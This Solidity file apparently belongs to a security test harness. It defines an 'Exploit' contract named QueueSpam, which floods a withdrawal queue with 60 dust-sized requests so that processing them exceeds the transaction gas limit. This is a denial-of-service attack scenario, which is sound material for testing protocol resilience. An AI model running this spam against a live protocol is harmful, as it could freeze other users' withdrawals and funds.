// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exploit, Scene} from "../Exploit.sol";

/// @title A few hundred tickets of a thousandth
/// @notice Asks out in so many parts that the loop over them no longer fits a transaction.
contract QueueSpam is Exploit {
    uint256 private constant TICKETS = 60;
    uint256 private constant DUST = 0.001 ether;

    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number > 4) return;
        uint256[] memory shares = new uint256[](TICKETS);
        for (uint256 i = 0; i < TICKETS; ++i) shares[i] = DUST;
        _deposit(TICKETS * DUST * 2);
        queue.requestMany(shares, address(this), 0, FOREVER);
    }
}
